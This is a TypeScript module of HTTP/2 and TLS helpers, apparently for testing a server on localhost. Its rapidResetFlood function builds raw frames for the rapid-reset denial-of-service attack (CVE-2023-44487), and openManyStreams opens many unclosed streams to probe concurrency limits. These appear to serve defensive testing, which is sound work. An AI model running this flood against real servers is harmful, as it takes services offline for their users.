import http2 from 'node:http2';
import tls from 'node:tls';

/** One HTTP/2 exchange's result. */
export interface H2Response {
  status: number;
  headers: http2.IncomingHttpHeaders;
  body: string;
}

/** Send one request on an HTTP/2 session and read the whole answer. */
export function h2request(
  session: http2.ClientHttp2Session,
  headers: http2.OutgoingHttpHeaders,
  body?: string | Buffer | AsyncIterable<Buffer>,
): Promise<H2Response> {
  return new Promise((resolve, reject) => {
    const hasBody = body !== undefined;
    const stream = session.request(headers, { endStream: !hasBody });
    let status = 0;
    let head: http2.IncomingHttpHeaders = {};
    const chunks: Buffer[] = [];
    stream.on('response', (h) => {
      head = h;
      status = Number(h[':status']);
    });
    stream.on('data', (c: Buffer) => chunks.push(c));
    stream.on('end', () => resolve({ status, headers: head, body: Buffer.concat(chunks).toString('utf8') }));
    stream.on('error', reject);
    if (typeof body === 'string' || Buffer.isBuffer(body)) stream.end(body);
    else if (body) {
      void (async () => {
        for await (const chunk of body) stream.write(chunk);
        stream.end();
      })();
    }
  });
}

/** Open an HTTP/2 session and wait until it is connected (ALPN h2). */
export function h2connect(url: string, options: http2.SecureClientSessionOptions): Promise<http2.ClientHttp2Session> {
  return new Promise((resolve, reject) => {
    const session = http2.connect(url, options);
    // Wait for the server's SETTINGS: its limits apply from then on (RFC 9113 §6.5.3).
    session.once('remoteSettings', () => {
      session.off('error', reject);
      session.on('error', () => undefined);
      resolve(session);
    });
    session.once('error', reject);
  });
}

/** The outcome of a bare TLS handshake. */
export type Handshake =
  | { ok: true; protocol: string | null; alpn: string | false | null; cipher: string; serialNumber: string; authorized: boolean }
  | { ok: false; code: string; message: string };

/** Do a TLS handshake with these client options and report what was negotiated (or why not). */
export function handshake(port: number, options: tls.ConnectionOptions): Promise<Handshake> {
  return new Promise((resolve) => {
    const socket = tls.connect({ host: '127.0.0.1', port, servername: 'localhost', ...options });
    socket.once('secureConnect', () => {
      const result: Handshake = {
        ok: true,
        protocol: socket.getProtocol(),
        alpn: socket.alpnProtocol,
        cipher: socket.getCipher().name,
        serialNumber: socket.getPeerCertificate().serialNumber,
        authorized: socket.authorized,
      };
      socket.destroy();
      resolve(result);
    });
    socket.once('error', (err: NodeJS.ErrnoException) => {
      socket.destroy();
      resolve({ ok: false, code: err.code ?? '', message: err.message });
    });
  });
}

/** What a raw HTTP/2 flood saw from the server. */
export interface FloodResult {
  /** Error code of the server's GOAWAY, or null when none came. */
  goaway: number | null;
  /** The server closed the connection. */
  closed: boolean;
  /** Streams opened (and reset) before the connection ended. */
  sent: number;
}

/** One raw HTTP/2 frame (RFC 9113 §4.1): 9-octet header, then the payload. */
function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** The connection preface and an empty SETTINGS frame. */
function clientPreface(): Buffer {
  return Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(0x4, 0, 0, Buffer.alloc(0))]);
}

/** HPACK block for `<method> https://localhost/`: the given static :method index, :scheme https (7), :path / (4), :authority literal (name 1). */
function hpackRequest(method: number): Buffer {
  return Buffer.concat([Buffer.from([method, 0x87, 0x84, 0x01, 0x09]), Buffer.from('localhost')]);
}

/**
 * The rapid-reset attack (CVE-2023-44487) written frame by frame, as an attacker would: open a
 * stream (HEADERS with END_STREAM, `GET /`) and cancel it (RST_STREAM CANCEL) right away, in
 * batches, until the server ends the connection or `streams` were sent.
 */
export function rapidResetFlood(port: number, ca: string, streams: number): Promise<FloodResult> {
  return new Promise((resolve) => {
    const socket = tls.connect({ host: '127.0.0.1', port, servername: 'localhost', ca, ALPNProtocols: ['h2'] });
    let sent = 0;
    let goaway: number | null = null;
    let inbox = Buffer.alloc(0);
    const headerBlock = hpackRequest(0x82); // :method GET (static 2)
    const cancel = Buffer.alloc(4);
    cancel.writeUInt32BE(0x8, 0);
    const finish = () => resolve({ goaway, closed: true, sent });
    socket.on('data', (chunk: Buffer) => {
      inbox = Buffer.concat([inbox, chunk]);
      while (inbox.length >= 9) {
        const length = inbox.readUIntBE(0, 3);
        if (inbox.length < 9 + length) break;
        if (inbox[3] === 0x7 && length >= 8) goaway = inbox.readUInt32BE(9 + 4);
        inbox = inbox.subarray(9 + length);
      }
    });
    socket.on('close', finish);
    socket.on('error', () => undefined);
    socket.once('secureConnect', () => {
      socket.write(clientPreface());
      let id = 1;
      const batch = () => {
        if (socket.destroyed || !socket.writable) return;
        const frames: Buffer[] = [];
        for (let i = 0; i < 50 && sent < streams; i++, sent++, id += 2) {
          frames.push(frame(0x1, 0x4 | 0x1, id, headerBlock), frame(0x3, 0, id, cancel));
        }
        socket.write(Buffer.concat(frames));
        if (sent < streams) setImmediate(batch);
        else setTimeout(() => socket.end(), 1000).unref();
      };
      batch();
    });
  });
}

/**
 * Open `streams` HTTP/2 streams that stay open (POST, no END_STREAM), after acknowledging the
 * server's SETTINGS, and report how many got a response (HEADERS) and the RST_STREAM codes the
 * server sent back within `waitMs`.
 */
export function openManyStreams(
  port: number,
  ca: string,
  streams: number,
  waitMs = 300,
): Promise<{ answered: number; resets: Map<number, number>; maxConcurrentStreams: number | null }> {
  return new Promise((resolve) => {
    const socket = tls.connect({ host: '127.0.0.1', port, servername: 'localhost', ca, ALPNProtocols: ['h2'] });
    const resets = new Map<number, number>();
    const answered = new Set<number>();
    let maxConcurrentStreams: number | null = null;
    let inbox = Buffer.alloc(0);
    let opened = false;
    const headerBlock = hpackRequest(0x83); // :method POST (static 3)
    const open = () => {
      opened = true;
      const frames: Buffer[] = [frame(0x4, 0x1, 0, Buffer.alloc(0))]; // SETTINGS ACK
      for (let i = 0, id = 1; i < streams; i++, id += 2) frames.push(frame(0x1, 0x4, id, headerBlock));
      socket.write(Buffer.concat(frames));
      setTimeout(() => {
        socket.destroy();
        resolve({ answered: answered.size, resets, maxConcurrentStreams });
      }, waitMs).unref();
    };
    socket.on('data', (chunk: Buffer) => {
      inbox = Buffer.concat([inbox, chunk]);
      while (inbox.length >= 9) {
        const length = inbox.readUIntBE(0, 3);
        if (inbox.length < 9 + length) break;
        const type = inbox[3];
        const flags = inbox[4]!;
        if (type === 0x4 && (flags & 0x1) === 0) {
          for (let at = 9; at + 6 <= 9 + length; at += 6) if (inbox.readUInt16BE(at) === 0x3) maxConcurrentStreams = inbox.readUInt32BE(at + 2);
          if (!opened) open();
        }
        if (type === 0x1) answered.add(inbox.readUInt32BE(5));
        if (type === 0x3 && length === 4) {
          const code = inbox.readUInt32BE(9);
          resets.set(code, (resets.get(code) ?? 0) + 1);
        }
        inbox = inbox.subarray(9 + length);
      }
    });
    socket.on('error', () => undefined);
    socket.once('secureConnect', () => socket.write(clientPreface()));
  });
}
